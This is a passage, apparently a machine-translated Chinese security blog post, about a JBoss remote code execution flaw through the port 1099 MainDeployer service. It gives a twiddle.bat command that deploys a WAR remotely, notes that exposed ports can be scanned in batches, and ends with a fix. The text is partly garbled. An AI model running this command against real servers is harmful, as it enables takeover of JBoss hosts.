port 1099 remote method call vulnerability in jboss

Posted by lipsius at 2020-02-27

By: Weibo:

Brother bird sent me an article a few days ago. It's a Java vulnerability. It's about the 1099 port that can be called remotely. It suddenly occurred to me that when I gave xcon 2012, one of the problems I didn't mention because I "forgot" was a vulnerability in JBoss remote code execution. There seems to be no translation and use guide in China. After such a long time, I really forgot. Its principle is similar to that of ejbinvoker. In other words, a few days ago, an ejbinvoker was released. In fact, it is also an old vulnerability. It was all released together at the beginning. Exp only hit at different URLs, but there is no "use guide" vulnerability in China. So many people can't use it. The user's guide is as follows. What can't Google.

Vulnerability details: twiddle.bat - s JNP: / / Net: 1099 invoke JBoss. System: Service = maindeployer deploy

twiddle.bat -s jnp:// invoke jboss.system:service=MainDeployer deploy

In fact, this was originally in a foreigner's article, along with several other JBoss problems. It means to deploy a war remotely. The specific principle is basically the same as that of ejbinvokerservlet / jmxinvokerservlet, and the scanning characteristics are basically the same. Therefore, 1099 port can bescanned in batches. In addition, the 4444 port of JBoss is not a good bird. There is no time to analyze and wait for the answer. I think the saddest thing in the domestic security circle is "exploit tool = = new vulnerability" in most cases, so "exp = =vulnerability details".

Repair suggestion: delete the invoker and close 1099.

By: Weibo: